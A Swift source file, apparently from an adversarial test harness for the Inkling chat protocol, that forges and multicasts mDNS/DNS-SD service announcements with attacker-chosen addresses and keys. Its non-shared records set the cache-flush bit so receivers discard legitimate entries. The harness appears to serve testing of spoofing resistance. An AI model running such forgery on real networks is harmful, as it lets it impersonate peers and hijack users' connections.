import Glibc
import InklingWire
import SeededRandom

/// Forged DNS-SD instances of `_inkling._udp`. A separate socket announces them by multicast DNS (RFC 6762), so no
/// daemon on the attacker's host can object.
final class ForgedServices {
    /// The lifetime of the records, in seconds.
    fileprivate static let lifetime: UInt32 = 120
    private static let group = SocketEndpoint(address: IPv4Address(value: 224 << 24 | 251), port: 5_353)

    fileprivate enum RecordType: UInt16 {
        case address = 1
        case pointer = 12
        case text = 16
        case service = 33
    }

    private let socket: AttackSocket
    private(set) var packets: [[UInt8]] = []

    init() throws {
        socket = try AttackSocket(port: ForgedServices.group.port, isShared: true, interface: "eth0")
    }

    /// Adds one more instance.
    func add(at endpoint: SocketEndpoint, key: PublicKey, for chat: ChatKeys, _ garbage: inout SeededGenerator) {
        let nonce = garbage.next()
        let label = chat.instanceName(nonce: nonce)
        let type = ["_inkling", "_udp", "local"]
        let instance = [label] + type
        let host = [label, "local"]
        var service = ByteWriter(capacity: 64)
        service.append(0 as UInt32)
        service.append(endpoint.port)
        service.append(name: host)
        let txt = ServiceRecord.encode(key: key, nonce: nonce, for: chat)

        var packet = ByteWriter(capacity: 512)
        // The header of an authoritative answer without a question, with four records.
        for word in [0, 0x8400, 0, 4, 0, 0] as [UInt16] { packet.append(word) }
        packet.append(record: .pointer, of: type, isShared: true, name(instance))
        packet.append(record: .service, of: instance, isShared: false, service.bytes)
        packet.append(record: .text, of: instance, isShared: false, txt)
        packet.append(record: .address, of: host, isShared: false, endpoint.address.bytes)
        packets.append(packet.bytes)
    }

    /// Sends the announcement of one instance.
    func announce(_ number: Int, _ attacker: Attacker) {
        let isSent = socket.send(packets[number], to: ForgedServices.group, from: Attacker.address)
        attacker.count(sent: isSent ? 1 : 0, refused: isSent ? 0 : 1)
    }

    func announceAll(_ attacker: Attacker) {
        for number in packets.indices { announce(number, attacker) }
    }

    private func name(_ labels: [String]) -> [UInt8] {
        var writer = ByteWriter(capacity: 64)
        writer.append(name: labels)
        return writer.bytes
    }
}

extension ByteWriter {
    /// Appends a DNS name without compression.
    fileprivate mutating func append(name labels: [String]) {
        for label in labels {
            append(UInt8(label.utf8.count))
            append(label.utf8)
        }
        append(0 as UInt8)
    }

    /// Appends a record of class IN. Receivers replace their other records of that name unless the record is shared.
    fileprivate mutating func append(
        record type: ForgedServices.RecordType, of name: [String], isShared: Bool, _ content: [UInt8]
    ) {
        append(name: name)
        append(type.rawValue)
        append(isShared ? 0x0001 : 0x8001 as UInt16)
        append(ForgedServices.lifetime)
        append(UInt16(content.count))
        append(content)
    }
}
